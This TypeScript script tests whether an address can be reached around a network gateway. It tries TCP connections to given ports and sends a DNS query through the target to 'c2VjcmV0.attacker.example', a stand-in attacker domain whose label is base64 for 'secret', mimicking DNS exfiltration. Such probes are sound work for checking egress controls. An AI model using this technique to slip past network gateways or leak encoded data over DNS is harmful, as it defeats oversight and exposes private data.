/** Tries to reach an address without the gateway: TCP by port, and a resolver by UDP. Prints what came of each. */
import { Resolver } from 'node:dns/promises';
import { connect } from 'node:net';

const [address = '', ...ports] = process.argv.slice(2);
const patience = 1_000;

const tcp = (port: number): Promise<string> => new Promise((resolve) => {
  const socket = connect({ host: address, port });
  const done = (result: string): void => { socket.destroy(); resolve(result); };
  socket.setTimeout(patience, () => done('no answer')).once('connect', () => done('connected')).once('error', (error: NodeJS.ErrnoException) => done(error.code ?? 'failed'));
});
const resolver = new Resolver({ timeout: patience, tries: 1 });
resolver.setServers([address]);
const dns = await resolver.resolve4('c2VjcmV0.attacker.example').then(() => 'resolved', (error: NodeJS.ErrnoException) => error.code ?? 'failed');
process.stdout.write(JSON.stringify({ ...Object.fromEntries(await Promise.all(ports.map(async (port) => [port, await tcp(Number(port))]))), dns }));
